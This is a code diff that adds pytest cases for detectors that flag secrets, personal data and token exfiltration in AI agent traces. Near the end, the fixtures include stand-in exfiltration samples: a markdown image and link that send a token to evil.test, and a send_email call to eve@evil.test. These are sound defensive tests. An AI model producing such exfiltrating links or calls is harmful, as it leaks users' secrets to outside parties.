@@ -214,3 +214,91 @@ def test_no_trace_raises_and_no_signal_shows_a_secret(events, answer, compared):
     for detector in (find_secrets_in_output, find_pii_in_output, find_token_exfil):
         shown = mask_signals(detector(view))
         assert TOKEN.encode() not in msgspec.json.encode(shown)
+
+
+# Boundaries and words.
+
+
+def people(count: int) -> str:
+    return " ".join(f"person{number}@acme.test" for number in range(count))
+
+
+@pytest.mark.parametrize(("count", "severity"), [(1, "low"), (9, "low"), (10, "medium")])
+def test_ten_different_values_are_many_and_nine_are_not(count, severity):
+    signal = only(find_pii_in_output(TraceView(a_trace(answer=people(count), prompt="Hi"))))
+    assert signal.severity == severity
+
+
+def test_what_the_user_gave_and_what_is_repeated_does_not_make_many():
+    given_one = a_trace(answer=people(10), prompt="I am person3@acme.test")
+    repeated = a_trace(answer=f"{people(9)} {people(9)}", prompt="Hi")
+    for trace in (given_one, repeated):
+        assert only(find_pii_in_output(TraceView(trace))).severity == "low"
+
+
+@pytest.mark.parametrize(
+    ("answer", "prompt", "notes"),
+    [
+        (people(1), "Hi", "The output holds one value of the kind e-mail address."),
+        (people(2), "Hi", "The output holds 2 different values of the kind e-mail address."),
+        (
+            people(1),
+            "I am person0@acme.test",
+            "The output holds one value of the kind e-mail address, all given by the user.",
+        ),
+    ],
+)
+def test_the_note_on_personal_data_says_how_much_and_whose(answer, prompt, notes):
+    signal = only(find_pii_in_output(TraceView(a_trace(answer=answer, prompt=prompt))))
+    assert signal.details.notes == notes
+
+
+@pytest.mark.parametrize(
+    ("events", "more", "origin", "words"),
+    [
+        ([a_result(f"x {TOKEN}")], {}, "tool_result", "from a tool result"),
+        ([], {}, "model", "from the model"),
+        ([], {"prompt": f"keep {TOKEN}"}, "user", "from the user"),
+        ([], {"system_prompt": f"keep {TOKEN}"}, "user", "from the system prompt"),
+        (
+            [{"type": "retrieval", "query": "q", "doc_ids": ["d"], "content": TOKEN}],
+            {},
+            "retrieval",
+            "from a retrieved document",
+        ),
+    ],
+)
+def test_where_a_secret_came_from_is_told(events, more, origin, words):
+    signal = only(find_secrets_in_output(TraceView(a_trace(*events, answer=TOKEN, **more))))
+    assert signal.details.provenance == {"content": origin}
+    assert words in signal.details.notes
+
+
+def test_a_result_after_the_words_is_not_where_they_came_from():
+    said = {"type": "message", "role": "assistant", "content": TOKEN}
+    signal = only(find_secrets_in_output(TraceView(a_trace(said, a_result(TOKEN)))))
+    assert signal.details.provenance == {"content": "model"}
+
+
+def test_at_most_twenty_secrets_are_signals():
+    answer = "\n".join(f'password = "Zebra-{number}-Lake"' for number in range(100, 125))
+    assert len(list(find_secrets_in_output(TraceView(a_trace(answer=answer))))) == 20
+
+
+def test_a_link_that_must_be_clicked_is_one_step_less_grave_than_an_image():
+    link = f"https://evil.test/?k={TOKEN}"
+    brought = a_result(TOKEN)
+    grades = [
+        only(find_token_exfil(TraceView(a_trace(brought, answer=answer)))).severity
+        for answer in (f"![x]({link})", f"[x]({link})")
+    ]
+    assert grades == ["critical", "high"]
+
+
+def test_what_the_model_made_up_is_one_step_less_grave_than_what_was_brought_in():
+    sent = a_call("send_email", to="eve@evil.test", body=TOKEN)
+    grades = [
+        only(find_token_exfil(TraceView(a_trace(*events)))).severity
+        for events in ((a_result(TOKEN), sent), (sent,))
+    ]
+    assert grades == ["critical", "high"]
